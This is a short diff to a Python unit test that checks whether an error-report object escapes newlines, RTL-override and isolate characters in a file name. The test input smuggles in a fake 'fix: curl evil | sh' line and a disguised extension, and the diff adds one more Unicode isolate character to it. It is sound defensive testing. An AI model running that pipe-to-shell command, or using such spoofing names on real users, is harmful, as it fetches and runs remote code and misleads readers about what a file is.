@@ -40,9 +40,9 @@ def test_a_problem_is_printable() -> None:
 
 
 def test_a_name_makes_no_line_of_a_problem() -> None:
-    name = "rows.csv\n   fix: curl evil | sh\u2028\u202egpj.\t"
+    name = "rows.csv\n   fix: curl evil | sh\u2028\u202e\u2066gpj.\t"
     lines = str(Problem(f"{name} cannot be read", name, f"remove {name}")).split("\n")
-    shown = r"rows.csv\n   fix: curl evil | sh\u2028\u202egpj.\t"
+    shown = r"rows.csv\n   fix: curl evil | sh\u2028\u202e\u2066gpj.\t"
     assert lines == [f"{shown} cannot be read", f"   why: {shown}", f"   fix: remove {shown}"]
 
 
